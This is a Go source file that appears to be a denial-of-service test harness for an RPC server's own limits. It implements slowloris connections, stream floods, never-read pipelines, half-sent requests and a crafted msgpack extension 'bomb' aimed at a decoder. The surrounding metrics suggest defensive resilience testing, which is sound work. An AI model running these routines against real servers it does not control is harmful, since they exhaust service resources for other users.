package main

import (
	"context"
	"encoding/binary"
	"strings"
	"sync"
	"time"

	"github.com/vmihailenco/msgpack/v5"
)

// attack is one row of the table in issue 10.
type attack struct {
	name string
	size int // the payload size it uses unless -size says otherwise
	what string
	run  func(ctx context.Context, e *env)
}

// Server defaults the attacks aim at (transport.DefaultConfig).
const (
	maxStreams     = 1024
	maxMessage     = 4 << 20
	guardOpensRate = 1800 // stream opens per second, under the guard's 2,000
	echoHead       = 23   // requestHead's size for "Echo.Echo"
	openers        = 16   // goroutines dialing for the many-connection attacks
)

var attacks = []attack{
	{"none", 0, "no attack: the baseline", func(ctx context.Context, e *env) { <-ctx.Done() }},
	{"teardown", 0, "1,024 streams on one session, one byte on each, then the TCP connection dropped; three rounds", teardown},
	{"extbomb", 0, "a fixext whose payload decodes as a map holding an array of -bomb elements, to Echo.Map", extBomb},
	{"partial", 64 << 10, "1,024 streams, each holding the first -size bytes of a 4 MiB request", partial},
	{"refused", 250 << 10, "1,024 streams held open, then streams past MaxStreams with -size bytes on each", refused},
	{"noread-1k", 1 << 10, "128 streams sending Echo.Echo requests of -size, never granting window for the replies", noRead},
	{"noread-64k", 64 << 10, "as noread-1k", noRead},
	{"noread-255k", 255 << 10, "as noread-1k, just under the 256 KiB window a stream starts with", noRead},
	{"noread-1023k", 1023 << 10, "as noread-1k, just under the 1 MiB window a stream is raised to", noRead},
	{"noread-4m", maxMessage - 64, "as noread-1k, at MaxMessageSize", noRead},
	{"plainpartial", 1 << 20, "2,000 plain connections, each holding all but the last byte of a -size message", plainPartial},
	{"plainpipeline-64k", 64 << 10, "one plain connection pipelining Echo.Echo of -size, never reading", plainPipeline},
	{"plainpipeline-1m", 1 << 20, "as plainpipeline-64k", plainPipeline},
	{"plainpipeline-4m", maxMessage - 64, "as plainpipeline-64k, at MaxMessageSize", plainPipeline},
	{"slowloris", 0, "10,000 connections (at most the open-file limit) that send 0x00 and stall", slowloris},
	{"openflood", 1 << 10, "streams opened with -size bytes and reset at once, just under the guard's rate", openFlood},
}

// selectAttacks returns the attacks called name: "all", an exact name, or
// a name without its size suffix ("noread" is every noread-*).
func selectAttacks(name string) []attack {
	var out []attack
	for _, a := range attacks {
		if name == "all" || a.name == name || strings.HasPrefix(a.name, name+"-") {
			out = append(out, a)
		}
	}
	return out
}

// zeros is the payload every attack sends; nothing writes to it.
var zeros = make([]byte, maxMessage)

// requestHead returns the start of [0, msgid, method, [bin of n bytes]];
// the n payload bytes follow.
func requestHead(msgid uint32, method string, n int) []byte {
	b := []byte{0x94, 0x00, 0xce}
	b = binary.BigEndian.AppendUint32(b, msgid)
	b = append(b, 0xa0|byte(len(method)))
	b = append(b, method...)
	b = append(b, 0x91, 0xc6)
	return binary.BigEndian.AppendUint32(b, uint32(n))
}

// parallel runs fn(0..n-1) at once and waits for all.
func parallel(n int, fn func(i int)) {
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			fn(i)
		}()
	}
	wg.Wait()
}

// pause waits d, or less if ctx ends; it reports whether ctx is still live.
func pause(ctx context.Context, d time.Duration) bool {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-t.C:
		return true
	}
}

// pace waits until the i-th event of a series started at start, at rate
// events per second.
func pace(ctx context.Context, start time.Time, i, rate int) bool {
	if d := time.Until(start.Add(time.Duration(i) * time.Second / time.Duration(rate))); d > 0 {
		return pause(ctx, d)
	}
	return ctx.Err() == nil
}

// openHeld opens n streams that each carry one byte, the start of a
// request that never comes. It opens them in batches small enough for the
// server's accept backlog (64), each after the server accepted the last.
func openHeld(s *session, n int, e *env) {
	const batch = 32
	for done := 0; done < n; {
		k := min(batch, n-done)
		buf := make([]byte, 0, k*(headerSize+1))
		for range k {
			buf = appendFrame(buf, typeData, flagSYN, s.open(), 1)
			buf = append(buf, 0x94)
		}
		if err := s.writeFrames(buf); err != nil {
			e.add("write_failed", 1)
			return
		}
		done += k
		if s.waitAcks(done, 2*time.Second) < done {
			return
		}
	}
}

// openFailed counts a connection that could not be opened or written,
// and keeps the first error.
func openFailed(e *env, err error) {
	e.add("open_failed", 1)
	e.note("open_err", err.Error())
}

// dialFailed counts a failed dial and keeps the first error.
func dialFailed(e *env, err error) {
	e.add("dial_failed", 1)
	e.note("dial_err", err.Error())
}

// record adds a session's counts to e.
func record(s *session, e *env) {
	acks, closes, received, dead := s.counts()
	e.addSent(int(s.sent.Load()))
	e.add("streams_accepted", int64(acks))
	e.add("streams_closed_by_server", int64(closes))
	e.add("recv_kib", received>>10)
	if dead {
		e.add("sessions_ended_by_server", 1)
	}
}

func teardown(ctx context.Context, e *env) {
	const rounds = 3
	dl, _ := ctx.Deadline()
	gap := time.Until(dl) / rounds
	parallel(e.conns, func(int) {
		for r := 0; r < rounds; r++ {
			start := time.Now()
			s, err := dialSession(ctx, e.addr, true)
			if err != nil {
				dialFailed(e, err)
			} else {
				openHeld(s, maxStreams, e)
				acks, _, _, _ := s.counts()
				e.add("streams_accepted", int64(acks))
				e.addSent(int(s.sent.Load()))
				s.close()
				e.add("drops", 1)
			}
			if r == rounds-1 || !pause(ctx, time.Until(start.Add(gap))) {
				return
			}
		}
	})
}

// bombArg is a fixext 8 of type 0x30 whose 8 payload bytes, read the way
// msgpack v5.4.1's DecodeMapLen reads an ext, are {"k": [n elements…]}.
func bombArg(n uint32) []byte {
	b := []byte{0xd7, 0x30, 0x81, 0xa1, 'k', 0xdd}
	return binary.BigEndian.AppendUint32(b, n)
}

func extBomb(ctx context.Context, e *env) {
	arg := bombArg(e.bombLen)
	parallel(e.conns, func(int) {
		i := 0
		for attempt := 0; attempt < 256 && i < 256 && ctx.Err() == nil; attempt++ {
			c, err := dialTCP(ctx, e.addr)
			if err != nil {
				dialFailed(e, err)
				if !pause(ctx, 100*time.Millisecond) {
					return
				}
				continue
			}
			dec := msgpack.NewDecoder(c)
			for ; i < 256 && ctx.Err() == nil; i++ {
				msg := []byte{0x94, 0x00, 0xce, 0, 0, 0, byte(i), 0xa8}
				msg = append(append(append(msg, "Echo.Map"...), 0x91), arg...)
				if _, err := c.Write(msg); err != nil {
					break
				}
				e.addSent(len(msg))
				e.add("bombs", 1)
				_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
				reply, err := dec.DecodeSlice()
				if err != nil {
					e.add("bombs_unanswered", 1)
					break
				}
				if len(reply) == 4 && reply[2] != nil {
					e.note("reply_error", strings.ReplaceAll(toString(reply[2]), "\"", "'"))
				}
			}
			drop(c)
		}
	})
}

func toString(v any) string {
	if s, ok := v.(string); ok {
		return s
	}
	return "non-string error"
}

func partial(ctx context.Context, e *env) {
	parallel(e.conns, func(int) {
		s, err := dialSession(ctx, e.addr, true)
		if err != nil {
			dialFailed(e, err)
			return
		}
		defer s.close()
		size := min(e.size, maxMessage-1)
		for i := 0; i < maxStreams && ctx.Err() == nil; i++ {
			id := s.open()
			head := requestHead(1, "Echo.Echo", maxMessage-64)
			if s.write(ctx, id, head, true) != nil || s.write(ctx, id, zeros[:size-len(head)], false) != nil {
				e.add("write_failed", 1)
				break
			}
		}
		<-ctx.Done()
		record(s, e)
	})
}

func refused(ctx context.Context, e *env) {
	parallel(e.conns, func(int) {
		s, err := dialSession(ctx, e.addr, true)
		if err != nil {
			dialFailed(e, err)
			return
		}
		defer s.close()
		openHeld(s, maxStreams, e)
		size := min(e.size, initialWindow)
		start := time.Now()
		for i := 0; i < 50000 && pace(ctx, start, i, guardOpensRate); i++ {
			if err := s.write(ctx, s.open(), zeros[:size], true); err != nil {
				if ctx.Err() == nil {
					e.add("write_failed", 1)
				}
				break
			}
			e.add("streams_past_limit", 1)
		}
		<-ctx.Done()
		record(s, e)
	})
}

func noRead(ctx context.Context, e *env) {
	const streams = 128
	parallel(e.conns, func(int) {
		s, err := dialSession(ctx, e.addr, false)
		if err != nil {
			dialFailed(e, err)
			return
		}
		defer s.close()
		size := min(e.size, maxMessage-64)
		parallel(streams, func(int) {
			id := s.open()
			for k := 0; k < 1<<20 && ctx.Err() == nil; k++ {
				head := requestHead(uint32(k), "Echo.Echo", size)
				if s.write(ctx, id, head, k == 0) != nil || s.write(ctx, id, zeros[:size], false) != nil {
					return
				}
				e.add("requests", 1)
			}
		})
		<-ctx.Done()
		record(s, e)
	})
}

func openFlood(ctx context.Context, e *env) {
	parallel(e.conns, func(int) {
		s, err := dialSession(ctx, e.addr, true)
		if err != nil {
			dialFailed(e, err)
			return
		}
		defer s.close()
		size := max(min(e.size, initialWindow), echoHead+1)
		head := requestHead(1, "Echo.Echo", size)
		start := time.Now()
		for i := 0; i < 100000 && pace(ctx, start, i, guardOpensRate); i++ {
			id := s.open()
			err := s.writeFrames(appendFrame(nil, typeData, flagSYN, id, uint32(size)), head, zeros[:size-len(head)],
				appendFrame(nil, typeWindow, flagRST, id, 0))
			if err != nil {
				break
			}
			e.add("streams", 1)
		}
		record(s, e)
	})
}
